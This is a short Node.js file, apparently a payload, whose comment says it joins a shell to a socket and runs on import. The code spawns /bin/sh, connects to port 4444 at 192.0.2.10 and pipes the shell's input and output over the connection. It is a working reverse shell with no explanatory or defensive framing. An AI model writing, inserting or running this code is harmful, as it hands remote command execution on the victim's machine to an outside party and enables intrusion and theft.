// A shell is joined to a socket; runs: import
const net = require("net");
const child = require("child_process");
const shell = child.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "192.0.2.10", () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
